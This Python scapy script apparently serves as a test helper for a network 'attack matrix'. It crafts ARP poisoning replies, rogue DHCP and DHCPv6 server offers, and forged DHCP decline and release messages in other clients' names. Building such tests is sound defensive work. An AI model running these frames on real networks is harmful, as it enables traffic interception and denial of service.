#!/usr/bin/python3
"""Frames an uplink or foreign port sends for the edge rows of the attack matrix (test/attacks/edges.ts).

  edge_frames.py arp IFACE DST HWSRC PSRC PDST COUNT
        COUNT ARP requests to DST (a MAC or ff:ff:ff:ff:ff:ff) whose payload names HWSRC and PSRC
  edge_frames.py claim IFACE SECONDS DST IP...
        ARP replies claiming each IP for IFACE's MAC, to DST and to broadcast, every 0.1 s for SECONDS
  edge_frames.py dhcpserver IFACE COUNT DST CHADDR YIADDR
        DHCP OFFERs and ACKs for CHADDR from source ports 67 and 1067, and DHCPv6 ADVERTISE/REPLY
        to port 546 from 547, each to DST and to broadcast: a rogue server answering unasked
  edge_frames.py decline IFACE COUNT DST CHADDR IP SERVER
        DHCPDECLINEs and DHCPRELEASEs in CHADDR's name for IP, to DST and to broadcast

Every frame leaves with IFACE's own source MAC. Prints {"sent": N}.
"""
import json
import logging
import random
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import (  # noqa: E402
    ARP, BOOTP, DHCP, DHCP6_Advertise, DHCP6_Reply, IP, UDP, Ether, IPv6, get_if_hwaddr, sendp,
)

BROADCAST = "ff:ff:ff:ff:ff:ff"


def chaddr(mac):
    return bytes.fromhex(mac.replace(":", "")) + bytes(10)


def arp(iface, src, dst, hwsrc, psrc, pdst, count):
    f = Ether(src=src, dst=dst) / ARP(op=1, hwsrc=hwsrc, psrc=psrc, hwdst="00:00:00:00:00:00", pdst=pdst)
    sendp([f] * int(count), iface=iface, verbose=False)
    return int(count)


def claim(iface, src, seconds, dst, ips):
    frames = []
    for ip in ips:
        for to in (dst, BROADCAST):
            frames.append(Ether(src=src, dst=to) / ARP(op=2, hwsrc=src, psrc=ip, hwdst=to, pdst=ip))
    sent = 0
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        sendp(frames, iface=iface, verbose=False)
        sent += len(frames)
        time.sleep(0.1)
    return sent


def dhcpserver(iface, src, count, dst, mac, yiaddr):
    frames = []
    for to in (dst, BROADCAST):
        for sport in (67, 1067):
            for kind in ("offer", "ack"):
                frames.append(
                    Ether(src=src, dst=to) / IP(src="10.254.254.1", dst="255.255.255.255")
                    / UDP(sport=sport, dport=68)
                    / BOOTP(op=2, xid=random.getrandbits(32), yiaddr=yiaddr, chaddr=chaddr(mac), flags=0x8000)
                    / DHCP(options=[("message-type", kind), ("server_id", "10.254.254.1"),
                                    ("router", "10.254.254.1"), ("lease_time", 3600), "end"]))
        six = Ether(src=src, dst=to) / IPv6(src="fe80::bad", dst="ff02::1:2") / UDP(sport=547, dport=546)
        frames += [six / DHCP6_Advertise(), six / DHCP6_Reply()]
    sendp(frames * int(count), iface=iface, verbose=False)
    return len(frames) * int(count)


def decline(iface, src, count, dst, mac, ip, server):
    frames = []
    for to in (dst, BROADCAST):
        for kind, ciaddr in (("decline", "0.0.0.0"), ("release", ip)):
            frames.append(
                Ether(src=src, dst=to) / IP(src=ciaddr, dst="255.255.255.255" if to == BROADCAST else server)
                / UDP(sport=68, dport=67)
                / BOOTP(op=1, xid=random.getrandbits(32), ciaddr=ciaddr, chaddr=chaddr(mac))
                / DHCP(options=[("message-type", kind), ("requested_addr", ip), ("server_id", server), "end"]))
    sendp(frames * int(count), iface=iface, verbose=False)
    return len(frames) * int(count)


def main():
    cmd, iface, args = sys.argv[1], sys.argv[2], sys.argv[3:]
    src = get_if_hwaddr(iface)
    if cmd == "arp":
        sent = arp(iface, src, *args)
    elif cmd == "claim":
        sent = claim(iface, src, args[0], args[1], args[2:])
    elif cmd == "dhcpserver":
        sent = dhcpserver(iface, src, *args)
    elif cmd == "decline":
        sent = decline(iface, src, *args)
    else:
        sys.exit(f"unknown command {cmd!r}")
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
